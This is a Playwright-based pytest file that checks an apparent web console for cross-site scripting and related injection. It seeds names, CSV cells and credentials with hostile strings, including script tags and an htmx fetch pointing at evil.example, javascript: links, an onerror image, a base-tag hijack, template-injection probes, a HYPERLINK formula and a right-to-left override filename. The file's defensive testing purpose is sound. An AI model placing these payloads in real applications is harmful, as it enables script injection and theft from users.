"""What an attacker writes where people read, in a real browser: names and cells are text on every page.

Each would say that it has run by a dialog or by a request to elsewhere, or would hide the page behind itself.
"""

import csv
import io
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from tests.conftest import storing
from tests.console.browser import Looker, browser, looking, missing
from tests.console.importing import draft_of, foresee, upload
from tests.console.tour import Shown, walk
from tests.console.world import Console
from tests.contract.api.world import CAR, STATUSES, sync, whole_subscription
from tests.forms import only_long
from tests.harness import Server, running

RUNS = "alert(document.domain)"
TEXTS = {
    "script": f"<script>{RUNS}</script>",
    "closing": "</title></option></select></textarea></svg></time><script src=//evil.example/x.js></script>",
    "attribute": f'" autofocus onfocus="{RUNS}" style="position:fixed;inset:0" x="',
    "quote": f"' onmouseover='{RUNS}' x='",
    "picture": f"<img src=https://evil.example/p onerror={RUNS}>",
    "svg": f"<svg onload={RUNS}><title>{RUNS}</title><text>over</text></svg>",
    "address": f"javascript:{RUNS}",
    "link": f"<a href='javascript:{RUNS}'>a</a><base href=https://evil.example>",
    "fragment": "<div hx-get=https://evil.example/h hx-trigger=load data-live=soon></div>",
    "braces": "{{ 7 * 191 }}{% include 'layout.html' %}${7 * 191}",
    "formula": '=HYPERLINK("https://evil.example","see")',
    "reordered": "\u202egpj.exe\u2066\u200b",
    "long": "W" * 240,
}
WIDER = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


def hostile_subscription() -> dict[str, Any]:
    """Return a subscription whose names are all hostile."""
    numbered = list(enumerate(TEXTS.values()))
    document = whole_subscription(
        lead_fields=[
            {"name": "customerNumber", "displayName": TEXTS["script"], "dataType": "integer"},
            *(
                {"name": f"field{number}", "displayName": text[:100], "dataType": "string"}
                for number, text in numbered
            ),
        ],
        partitions=["Default", *(text[:100] for _, text in numbered)],
        lists=[{"id": 1001 + number, "name": text} for number, text in numbered],
        programs=[{"id": 1001 + number, "name": text, "channel": "Webinar"} for number, text in numbered],
        channels=[{"name": "Webinar", "statuses": [*STATUSES, {"name": TEXTS["picture"], "step": 90}]}],
        custom_objects=[CAR | {"displayName": TEXTS["picture"]}],
    )
    document["credentials"][0] |= {"name": TEXTS["attribute"], "user": TEXTS["svg"]}
    return document


def csv_of(*rows: list[str]) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode()


@pytest.fixture(scope="module")
def store() -> str:
    return "sqlite"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    if why := missing():
        pytest.skip(why)
    with browser() as started:
        yield started


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shown]:
    """A subscription that is hostile wherever something can be named, with jobs, a preview and an undo."""
    for _ in storing("sqlite", in_process=True):
        for server in running(tmp_path_factory.mktemp("hostile") / "data", hostile_subscription()):
            yield _filled(server)


def _filled(server: Server) -> Shown:
    header = ["email", "lastName", "customerNumber", *(f"field{number}" for number in range(len(TEXTS)))]
    console = Console(server).login()
    for round_ in range(2):  # the second time there is a value before each
        rows = [
            [f"p{number}@example.com", text, str(number), *([f"{round_}{text}"] * len(TEXTS))]
            for number, text in enumerate(TEXTS.values())
        ]
        failing = [[f"f{number}@example.com", "", text] for number, text in enumerate(TEXTS.values())]
        files = {"file": (TEXTS["script"] + ".csv", csv_of(header, *rows, *failing), "text/csv")}
        body = server.call("POST", "/bulk/v1/leads.json", files=files, params={"listId": 1001}).json()
        job = int(body["result"][0]["batchId"])
        server.finish(job)
    found = server.lead("email", "p0@example.com", "id")[0]["id"]
    sync(
        server, "/rest/v1/customobjects/car_c.json", {"vin": TEXTS["picture"][:40], "color": TEXTS["script"]}
    )
    drafts = []
    for name in (TEXTS["closing"], TEXTS["reordered"]):
        draft = draft_of(
            upload(console, csv_of(["email", *TEXTS.values()], ["p1@example.com", *TEXTS.values()]), name)
        )
        drafts.append(draft.removeprefix(console.prefix))
    foresee(console, drafts[0], **{f"column-{place}": f"field{place - 1}" for place in range(1, 4)})
    undo = console.post(f"/jobs/{job}/undo").headers["location"].removeprefix(console.prefix)
    console.close()
    starts = [f"/jobs/{job}", undo, f"/person/{found}", *drafts, f"{drafts[0]}/preview"]
    return Shown(server, job, starts)


@pytest.mark.parametrize("width", [360, pytest.param(1600, marks=only_long)])
def test_names_and_cells_are_text_on_every_page(chromium: Browser, shown: Shown, width: int) -> None:
    faults: list[str] = []
    size = {"width": width, "height": 800}
    with looking(chromium, shown.server, viewport=size) as looker:
        own = urlsplit(shown.server.address).netloc
        looker.page.on(
            "dialog", lambda dialog: (faults.append(f"dialog: {dialog.message}"), dialog.dismiss())
        )
        looker.page.on(
            "request", lambda request: urlsplit(request.url).netloc == own or faults.append(request.url)
        )
        looker.login()
        seen = ""
        for _, path in walk(looker, shown):
            faults += _faults_of(looker, path)
            seen += looker.page.inner_text("body")
        assert faults == []
    for name, text in TEXTS.items():
        assert name == "reordered" or text[:30] in seen, f"{name} is nowhere"
    assert "\u202e" not in seen
    assert "1337" not in seen


def _faults_of(looker: Looker, path: str) -> list[str]:
    """Return what is wrong with the page that is shown: what was refused, what is too wide, what got in."""
    page, faults = looker.page, [f"{path}: {each}" for each in looker.complaints]
    looker.complaints.clear()
    if (wider := page.evaluate(WIDER)) > 0:
        faults.append(f"{path}: {wider} px wider than the screen")
    inside = page.evaluate(
        "() => [...document.querySelectorAll('*')].filter(each =>"
        " (each.tagName === 'SCRIPT' && !each.src.startsWith(location.origin + '/'))"
        " || ['IMG', 'BASE', 'IFRAME', 'OBJECT', 'EMBED'].includes(each.tagName)"
        " || [...each.attributes].some(a => a.name.startsWith('on') || a.name === 'style'"
        "   || (['href', 'src', 'action', 'hx-get'].includes(a.name) && /^\\s*javascript:|evil/i.test(a.value))))"
        ".map(each => each.outerHTML.slice(0, 200))"
    )
    return faults + [f"{path}: {each}" for each in inside]
